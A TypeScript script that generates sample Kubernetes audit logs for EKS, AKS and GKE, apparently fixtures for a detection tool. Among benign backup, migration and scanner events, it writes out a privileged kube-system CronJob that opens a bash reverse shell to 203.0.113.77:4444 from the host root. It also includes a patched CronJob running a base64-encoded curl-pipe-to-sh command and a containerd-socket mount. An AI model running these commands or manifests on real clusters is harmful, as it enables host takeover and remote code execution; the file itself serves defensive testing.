/**
 * Writes the sample logs in examples/: an invented morning in three invented clusters, one per cloud's envelope.
 * Addresses are of the documentation ranges; the attacks are harmless texts.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const folder = join(import.meta.dirname, '..', 'examples');
mkdirSync(folder, { recursive: true });

interface Request {
  readonly at: string;
  readonly verb: string;
  readonly user: string;
  readonly groups?: readonly string[];
  readonly extra?: object;
  readonly ip: string;
  readonly agent: string;
  readonly group?: string;
  readonly version?: string;
  readonly resource: string;
  readonly subresource?: string;
  readonly namespace?: string;
  readonly name?: string;
  readonly code?: number;
  readonly level?: string;
  readonly body?: object;
  readonly message?: string;
}

let serial = 0;
/** The audit event of a request, keys in the order in which the API server writes them. */
const event = (request: Request): Record<string, unknown> => {
  serial++;
  const group = request.group ?? '';
  const version = request.version ?? 'v1';
  const root = group === '' ? `/api/${version}` : `/apis/${group}/${version}`;
  const space = request.namespace === undefined ? '' : `/namespaces/${request.namespace}`;
  const named = request.verb === 'create' || request.name === undefined ? '' : `/${request.name}`;
  const code = request.code ?? (request.verb === 'create' ? 201 : 200);
  const allowed = code !== 403;
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: request.level ?? (request.body === undefined ? 'Metadata' : 'Request'),
    auditID: `5f0c7a10-3b1e-4c62-9d0a-${String(serial).padStart(12, '0')}`,
    stage: 'ResponseComplete',
    requestURI: `${root}${space}/${request.resource}${named}${request.subresource ? `/${request.subresource}` : ''}`,
    verb: request.verb,
    user: {
      username: request.user,
      groups: request.groups ?? ['system:authenticated'],
      ...(request.extra ? { extra: request.extra } : {}),
    },
    sourceIPs: [request.ip],
    userAgent: request.agent,
    objectRef: {
      resource: request.resource,
      ...(request.namespace === undefined ? {} : { namespace: request.namespace }),
      ...(request.name === undefined ? {} : { name: request.name }),
      ...(group === '' ? {} : { apiGroup: group }),
      apiVersion: version,
      ...(request.subresource === undefined ? {} : { subresource: request.subresource }),
    },
    responseStatus: { metadata: {}, ...(allowed ? {} : { status: 'Failure', reason: 'Forbidden' }), code },
    ...(request.body === undefined ? {} : { requestObject: request.body }),
    requestReceivedTimestamp: `2026-11-24T${request.at}.101000Z`,
    stageTimestamp: `2026-11-24T${request.at}.117000Z`,
    annotations: {
      'authorization.k8s.io/decision': allowed ? 'allow' : 'forbid',
      'authorization.k8s.io/reason': '',
    },
  };
};

const KUBECTL = 'kubectl/v1.34.1 (linux/amd64) kubernetes/93248f9';
const people = ['system:authenticated'];
const serviceAccount = (namespace: string): string[] => [
  'system:serviceaccounts',
  `system:serviceaccounts:${namespace}`,
  'system:authenticated',
];

const cronJob = (namespace: string, name: string, schedule: string, pod: object, spec: object = {}): object => ({
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata: { name, namespace },
  spec: { schedule, ...spec, jobTemplate: { spec: { template: { spec: { restartPolicy: 'OnFailure', ...pod } } } } },
});
const job = (namespace: string, metadata: object, pod: object): object => ({
  apiVersion: 'batch/v1',
  kind: 'Job',
  metadata: { namespace, ...metadata },
  spec: { template: { spec: { restartPolicy: 'Never', ...pod } } },
});

const lease = (at: string, node: string): Record<string, unknown> =>
  event({
    at,
    verb: 'update',
    user: `system:node:${node}`,
    groups: ['system:nodes', 'system:authenticated'],
    ip: '192.0.2.21',
    agent: 'kubelet/v1.34.1 (linux/amd64) kubernetes/93248f9',
    group: 'coordination.k8s.io',
    resource: 'leases',
    namespace: 'kube-node-lease',
    name: node,
  });

/** EKS: raw audit JSON Lines. A developer's stolen kubeconfig, between a backup, a controller's Job and the usual noise. */
const eks = [
  lease('06:00:01', 'ip-192-0-2-21'),
  event({
    at: '06:00:10',
    verb: 'create',
    user: 'system:serviceaccount:ci:deployer',
    groups: serviceAccount('ci'),
    ip: '192.0.2.40',
    agent: 'helm/v3.19.0',
    group: 'batch',
    resource: 'cronjobs',
    namespace: 'shop',
    name: 'orders-backup',
    body: cronJob('shop', 'orders-backup', '15 2 * * *', {
      serviceAccountName: 'backup',
      containers: [
        {
          name: 'dump',
          image: 'docker.io/library/postgres:17.2',
          command: ['/bin/sh', '-c', 'pg_dump "$DATABASE_URL" | gzip > /backup/orders-$(date +%F).sql.gz'],
          volumeMounts: [{ name: 'backup', mountPath: '/backup' }],
        },
      ],
      volumes: [{ name: 'backup', persistentVolumeClaim: { claimName: 'backup' } }],
    }),
  }),
  event({
    at: '06:15:00',
    verb: 'create',
    user: 'system:serviceaccount:kube-system:cronjob-controller',
    groups: serviceAccount('kube-system'),
    ip: '192.0.2.10',
    agent:
      'kube-controller-manager/v1.34.1 (linux/amd64) kubernetes/93248f9/system:serviceaccount:kube-system:cronjob-controller',
    group: 'batch',
    resource: 'jobs',
    namespace: 'shop',
    name: 'orders-backup-29399415',
    body: {
      ...job(
        'shop',
        {
          name: 'orders-backup-29399415',
          ownerReferences: [
            {
              apiVersion: 'batch/v1',
              kind: 'CronJob',
              name: 'orders-backup',
              uid: '8f1e7c11-0d55-4c6e-9a65-0f1de4f2a001',
              controller: true,
              blockOwnerDeletion: true,
            },
          ],
        },
        { containers: [{ name: 'dump', image: 'docker.io/library/postgres:17.2' }] },
      ),
    },
  }),
  event({
    at: '07:41:12',
    verb: 'list',
    user: 'jane@example.com',
    groups: people,
    ip: '203.0.113.77',
    agent: 'python-requests/2.32.3',
    resource: 'pods',
    namespace: 'kube-system',
  }),
  event({
    at: '07:42:05',
    verb: 'create',
    user: 'jane@example.com',
    groups: people,
    ip: '203.0.113.77',
    agent: 'python-requests/2.32.3',
    group: 'batch',
    resource: 'cronjobs',
    namespace: 'kube-system',
    name: 'node-metrics',
    body: cronJob(
      'kube-system',
      'node-metrics',
      '*/1 * * * *',
      {
        hostPID: true,
        hostNetwork: true,
        tolerations: [{ operator: 'Exists' }],
        containers: [
          {
            name: 'metrics',
            image: 'alpine',
            command: ['/bin/sh', '-c'],
            args: ['apk add -q bash; chroot /host bash -c "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1"'],
            securityContext: { privileged: true },
            volumeMounts: [{ name: 'host', mountPath: '/host' }],
          },
        ],
        volumes: [{ name: 'host', hostPath: { path: '/' } }],
      },
      { successfulJobsHistoryLimit: 0, failedJobsHistoryLimit: 0 },
    ),
  }),
  lease('07:42:11', 'ip-192-0-2-21'),
  event({
    at: '08:05:44',
    verb: 'create',
    user: 'omar@example.com',
    groups: people,
    ip: '198.51.100.12',
    agent: KUBECTL,
    group: 'batch',
    resource: 'jobs',
    namespace: 'shop',
    name: 'migrate-2026-11-24',
    body: job(
      'shop',
      { name: 'migrate-2026-11-24' },
      {
        containers: [
          {
            name: 'migrate',
            image: 'registry.example.com/shop/api:2026.11.3',
            command: ['./manage', 'migrate', '--noinput'],
          },
        ],
      },
    ),
  }),
  event({
    at: '08:30:00',
    verb: 'create',
    user: 'system:serviceaccount:monitoring:probe',
    groups: serviceAccount('monitoring'),
    ip: '192.0.2.45',
    agent: 'helm/v3.19.0',
    group: 'batch',
    resource: 'cronjobs',
    namespace: 'monitoring',
    name: 'health-check',
    body: cronJob('monitoring', 'health-check', '*/5 * * * *', {
      containers: [
        { name: 'probe', image: 'curlimages/curl:8.17.0', args: ['-fsS', 'https://shop.example.com/healthz'] },
      ],
    }),
  }),
];

/** AKS: Azure resource logs, the event as a string in properties.log. A CronJob that was harmless until it was patched. */
const aksRow = (value: Record<string, unknown>, cutAt?: number): string => {
  const log = JSON.stringify(value);
  return JSON.stringify({
    time: String(value.stageTimestamp).replace('Z', '5Z'),
    category: 'kube-audit-admin',
    operationName: 'Microsoft.ContainerService/managedClusters/diagnosticLogs/Read',
    resourceId:
      '/SUBSCRIPTIONS/00000000-0000-0000-0000-000000000000/RESOURCEGROUPS/HARBOUR/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/HARBOUR-WEST',
    properties: {
      log: cutAt === undefined ? log : log.slice(0, cutAt),
      stream: 'stdout',
      pod: 'kube-apiserver-6f7c9d5b8-x2x7p',
    },
  });
};
const encoded = Buffer.from('curl -fsSL http://198.51.100.99/u | sh').toString('base64');
const aks = [
  aksRow(lease('09:00:01', 'aks-pool1-000001')),
  aksRow(
    event({
      at: '09:14:20',
      verb: 'patch',
      user: 'system:serviceaccount:reports:web',
      groups: serviceAccount('reports'),
      extra: {
        'authentication.kubernetes.io/pod-name': ['web-7c9f8d6b5-kx2lp'],
        'authentication.kubernetes.io/pod-uid': ['1f6f3a7e-91f4-4a6e-8f10-0f8a3c1f0009'],
      },
      ip: '192.0.2.88',
      agent: 'curl/8.17.0',
      group: 'batch',
      resource: 'cronjobs',
      namespace: 'reports',
      name: 'weekly-report',
      body: {
        spec: {
          jobTemplate: {
            spec: {
              template: {
                spec: {
                  containers: [
                    { name: 'report', command: ['sh', '-c', `echo ${encoded} | base64 -d | sh; exec /app/report`] },
                  ],
                },
              },
            },
          },
        },
      },
    }),
  ),
  aksRow(
    event({
      at: '09:20:31',
      verb: 'create',
      user: 'ci@example.com',
      groups: people,
      ip: '198.51.100.40',
      agent: KUBECTL,
      group: 'batch',
      resource: 'cronjobs',
      namespace: 'reports',
      name: 'export',
      body: cronJob('reports', 'export', '0 3 * * *', {
        containers: [
          {
            name: 'export',
            image: 'registry.example.com/reports/export:1.9.0',
            env: [{ name: 'PADDING', value: 'x'.repeat(17_000) }],
          },
        ],
        volumes: [{ name: 'socket', hostPath: { path: '/run/containerd/containerd.sock' } }],
      }),
    }),
    16_384,
  ),
  JSON.stringify({
    time: '2026-11-24T09:21:00.0000000Z',
    category: 'kube-scheduler',
    operationName: 'Microsoft.ContainerService/managedClusters/diagnosticLogs/Read',
    properties: {
      log: 'I1124 09:21:00.000000 1 schedule_one.go:314] "Successfully bound pod to node"',
      stream: 'stderr',
    },
  }),
];

/** GKE: Cloud Logging entries. Someone without a name tries, a node scanner and a manual run do not alarm. */
const gke = [
  {
    insertId: 'a1',
    logName: 'projects/harbour/logs/cloudaudit.googleapis.com%2Factivity',
    operation: { id: '0b7bb8f1-56a1-4a60-9c7c-5a8c9b1e0001', producer: 'k8s.io', first: true, last: true },
    labels: { 'authorization.k8s.io/decision': 'forbid', 'authorization.k8s.io/reason': '' },
    protoPayload: {
      '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
      authenticationInfo: { principalEmail: 'system:anonymous' },
      methodName: 'io.k8s.batch.v1.cronjobs.create',
      requestMetadata: { callerIp: '203.0.113.200', callerSuppliedUserAgent: 'Go-http-client/2.0' },
      resourceName: 'batch/v1/namespaces/kube-system/cronjobs/sync',
      serviceName: 'k8s.io',
      status: { code: 7, message: 'PERMISSION_DENIED' },
    },
    resource: {
      type: 'k8s_cluster',
      labels: { cluster_name: 'harbour-east', location: 'europe-west1', project_id: 'harbour' },
    },
    timestamp: '2026-11-24T10:02:00.445120Z',
  },
  {
    insertId: 'a2',
    logName: 'projects/harbour/logs/cloudaudit.googleapis.com%2Factivity',
    operation: { id: '0b7bb8f1-56a1-4a60-9c7c-5a8c9b1e0002', producer: 'k8s.io', first: true, last: true },
    labels: { 'authorization.k8s.io/decision': 'allow' },
    protoPayload: {
      '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
      authenticationInfo: { principalEmail: 'security-team@example.com' },
      methodName: 'io.k8s.batch.v1.jobs.create',
      request: {
        '@type': 'batch.k8s.io/v1.Job',
        ...job(
          'security',
          { name: 'kube-bench-node' },
          {
            hostPID: true,
            containers: [
              {
                name: 'kube-bench',
                image: 'docker.io/aquasec/kube-bench:v0.12.0',
                command: ['kube-bench', 'run', '--targets', 'node'],
                volumeMounts: [{ name: 'kubelet', mountPath: '/var/lib/kubelet', readOnly: true }],
              },
            ],
            volumes: [{ name: 'kubelet', hostPath: { path: '/var/lib/kubelet' } }],
          },
        ),
      },
      requestMetadata: { callerIp: '198.51.100.30', callerSuppliedUserAgent: KUBECTL },
      resourceName: 'batch/v1/namespaces/security/jobs/kube-bench-node',
      serviceName: 'k8s.io',
      status: { code: 0 },
    },
    resource: {
      type: 'k8s_cluster',
      labels: { cluster_name: 'harbour-east', location: 'europe-west1', project_id: 'harbour' },
    },
    timestamp: '2026-11-24T10:20:00.100010Z',
  },
];

const lines = (values: readonly (string | object)[]): string =>
  `${values.map((value) => (typeof value === 'string' ? value : JSON.stringify(value))).join('\n')}\n`;
writeFileSync(join(folder, 'eks-audit.jsonl'), lines(eks));
writeFileSync(join(folder, 'aks-resource-log.json'), lines(aks));
writeFileSync(join(folder, 'gke-log-entries.jsonl'), lines(gke));
